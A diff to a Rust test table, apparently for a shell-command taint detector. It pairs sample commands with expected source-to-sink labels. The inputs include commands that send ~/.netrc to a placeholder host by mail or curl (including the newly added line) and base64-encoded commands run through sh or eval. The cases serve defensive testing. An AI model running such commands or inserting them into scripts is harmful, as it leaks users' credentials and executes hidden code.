@@ -90,6 +90,7 @@ fn values_flow_from_sources_to_sinks() {
         ("mail -s x a@a.invalid < ~/.netrc", &["secret-file->net"]),
         ("echo aWQ7IHdob2FtaQ== | base64 -d | sh", &["decoded->process"]),
         ("eval $(echo aWQ7IHdob2FtaQ== | base64 -d)", &["decoded->dynamic-code"]),
+        ("true && cat ~/.netrc > k && curl -d @k a.invalid", &["secret-file->net"]),
         // What honest scripts do.
         ("curl -H \"Authorization: Bearer $TOKEN\" https://a.invalid", &[]),
         ("ssh -i ~/.ssh/id_rsa a.invalid ls; scp -i ~/.ssh/id_rsa x a.invalid:", &["file->net"]),
